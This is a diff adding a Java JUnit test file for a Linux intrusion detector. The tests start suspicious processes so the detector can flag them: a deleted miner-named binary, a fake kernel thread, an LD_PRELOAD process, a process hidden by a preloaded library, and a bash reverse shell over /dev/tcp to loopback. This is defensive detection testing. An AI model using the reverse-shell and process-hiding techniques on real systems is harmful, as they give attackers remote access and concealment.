@@ -1,0 +1,130 @@
+package dev.ward.detect.builtin;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+import static org.junit.jupiter.api.Assumptions.assumeTrue;
+
+import dev.ward.collect.Scan;
+import dev.ward.host.HostRoot;
+import dev.ward.model.Finding;
+import java.io.File;
+import java.net.InetAddress;
+import java.net.ServerSocket;
+import java.net.Socket;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.InstantSource;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.concurrent.TimeUnit;
+import java.util.stream.Collectors;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.Test;
+
+/** Real processes started by the test, seen through the live host's /proc. */
+class ProcessDetectorTest {
+    private final List<Process> started = new ArrayList<>();
+
+    @AfterEach
+    void stop() {
+        started.forEach(Process::destroyForcibly);
+    }
+
+    private Process start(String... command) throws Exception {
+        Process p = new ProcessBuilder(command).redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
+        started.add(p);
+        Thread.sleep(300);
+        return p;
+    }
+
+    static List<Finding> findings() throws Exception {
+        try (HostRoot live = HostRoot.live()) {
+            dev.ward.detect.Results out = new dev.ward.detect.Results();
+            new ProcessDetector().detect(new Scan(live, InstantSource.system()), out);
+            return out.findings();
+        }
+    }
+
+    private static List<String> of(List<Finding> findings, long pid) {
+        return findings.stream().filter(f -> f.pids().contains(pid)).map(f -> f.severity().label() + " " + f.check())
+                .sorted().collect(Collectors.toList());
+    }
+
+    @Test
+    void plantedProcessesAndAPlainOne() throws Exception {
+        Path dir = Files.createTempDirectory(Path.of("/tmp"), ".ward-test");
+        Path copy = dir.resolve("kdevtmpfsi");
+        Files.copy(Path.of("/usr/bin/sleep"), copy);
+        copy.toFile().setExecutable(true);
+        Process deleted = start(copy.toString(), "600");
+        Files.delete(copy);
+        Files.delete(dir);
+        Process fake = start("bash", "-c", "exec -a '[kworker/0:1]' sleep 600");
+        Process preload = start("env", "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libc.so.6", "sleep", "600");
+        Process plain = start("sleep", "600");
+        List<Finding> found = findings();
+        assertEquals(List.of("high linux.procs.deleted_executable"), of(found, deleted.pid()));
+        assertEquals(List.of("high linux.procs.fake_kernel_thread"), of(found, fake.pid()));
+        assertEquals(List.of("high linux.procs.ld_preload"), of(found, preload.pid()));
+        assertEquals(List.of(), of(found, plain.pid()));
+        assertEquals(List.of(), of(found, ProcessHandle.current().pid()), "ward's own process is the self-check's");
+        Finding d = found.stream().filter(f -> f.pids().contains(deleted.pid())).findFirst().orElseThrow();
+        assertTrue(d.summary().contains(copy + ", deleted from disk, from a temporary or hidden place"), d.summary());
+    }
+
+    /** A shell whose input and output are a TCP connection on the loopback. */
+    @Test
+    void reverseShell() throws Exception {
+        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
+            Process shell = start("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/" + server.getLocalPort()
+                    + "; exec bash -i <&3 >&3 2>&3");
+            try (Socket accepted = server.accept()) {
+                Thread.sleep(200);
+                List<Finding> found = findings();
+                assertEquals(List.of("critical linux.procs.reverse_shell"), of(found, shell.pid()));
+                Finding f = found.stream().filter(x -> x.pids().contains(shell.pid())).findFirst().orElseThrow();
+                assertEquals("127.0.0.1:" + server.getLocalPort(), f.evidence().get("remote"));
+            }
+        }
+    }
+
+    /**
+     * A process hidden from readdir by a preloaded library (the scenarios' hide.c, built with gcc),
+     * looked for by a second JVM running under that library, as ward would on an infected host.
+     */
+    @Test
+    void hiddenFromReaddir() throws Exception {
+        Path src = Path.of("../../shared/scenarios/hide.c");
+        assumeTrue(Files.isRegularFile(src), "no ../shared/scenarios: skipped");
+        Path dir = Files.createTempDirectory("ward-hide");
+        Path lib = dir.resolve("hide.so");
+        Process cc = new ProcessBuilder("gcc", "-O2", "-fPIC", "-shared", "-o", lib.toString(), src.toString(), "-ldl")
+                .redirectErrorStream(true).start();
+        assumeTrue(cc.waitFor() == 0, "gcc is needed to build the hiding library");
+        Process hidden = start("sleep", "600");
+        ProcessBuilder b = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(),
+                "--enable-native-access=ALL-UNNAMED", "-cp", System.getProperty("java.class.path"),
+                HiddenProbe.class.getName());
+        b.environment().put("LD_PRELOAD", lib.toString());
+        b.environment().put("HIDE_PID", Long.toString(hidden.pid()));
+        Process probe = b.redirectErrorStream(true).start();
+        String out = new String(probe.getInputStream().readAllBytes());
+        assertTrue(probe.waitFor(60, TimeUnit.SECONDS));
+        assertTrue(out.contains("linux.procs.hidden_process " + hidden.pid() + " "), out);
+        assertTrue(out.contains("readdir (libc, what ps uses) does not list it"), out);
+        Files.delete(lib);
+        Files.delete(dir);
+    }
+
+    /** Runs the detector in its own JVM and prints each finding's check, pids and summary. */
+    public static final class HiddenProbe {
+        public static void main(String[] args) throws Exception {
+            for (Finding f : findings()) {
+                for (long pid : f.pids()) {
+                    System.out.println(f.check() + " " + pid + " " + f.summary());
+                }
+            }
+            System.out.println(File.separator);
+        }
+    }
+}
